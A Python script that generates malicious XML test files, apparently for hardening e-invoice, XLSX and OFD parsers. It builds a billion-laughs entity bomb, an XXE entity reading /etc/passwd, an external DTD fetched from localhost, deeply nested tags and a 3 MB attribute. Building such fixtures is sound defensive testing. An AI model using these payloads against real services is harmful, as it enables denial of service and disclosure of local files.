"""Make documents of XML that attack whoever reads them: with entities, depth, long tags."""
import zipfile

LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>%s]>" % "".join(
    "<!ENTITY l%d '%s'>" % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))
OUTSIDE = "<!DOCTYPE a [<!ENTITY l9 SYSTEM 'file:///etc/passwd'>]>"
ELSEWHERE = "<!DOCTYPE a SYSTEM 'http://127.0.0.1/a.dtd'>"

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/%s/2006/relationships"
DOCUMENT = RELATIONS % "officeDocument"


def write_zip(path, parts):
    with zipfile.ZipFile(path, "w") as z:
        for name, text in parts.items():
            z.writestr(name, text)


def write_workbook(path, prologue, sheet):
    write_zip(path, {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": '<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>' % (RELATIONS % "package", DOCUMENT),
        "xl/workbook.xml": '<workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="A" sheetId="1" '
        'r:id="r1"/></sheets></workbook>' % (MAIN, DOCUMENT),
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="%s"><Relationship Id="r1" '
        'Type="%s/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        % (RELATIONS % "package", DOCUMENT),
        "xl/worksheets/sheet1.xml": prologue + '<worksheet xmlns="%s"><sheetData>%s</sheetData>'
        '</worksheet>' % (MAIN, sheet),
    })


for name, prologue in ("laughs", LAUGHS), ("outside", OUTSIDE), ("elsewhere", ELSEWHERE):
    with open(name + ".xml", "w") as f:
        f.write(prologue + "<EInvoice><a>&l9;</a></EInvoice>")
    write_workbook(name + ".xlsx", prologue,
                   '<row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row>')
    write_zip(name + ".ofd", {"OFD.xml": prologue + "<OFD><DocBody>&l9;</DocBody></OFD>"})

NUMBER = ("<EInvoice><Header><EIid>26322000000000000008</EIid></Header>%s</EInvoice>")
with open("deep.xml", "w") as f:
    f.write(NUMBER % ("<a>" * 80 + "</a>" * 80))
with open("tag.xml", "w") as f:
    f.write(NUMBER % ("<a b='" + "c" * (3 << 20) + "'/>"))
write_workbook("deep.xlsx", "", '<row r="1">' + "<a>" * 80 + "</a>" * 80 + "</row>")
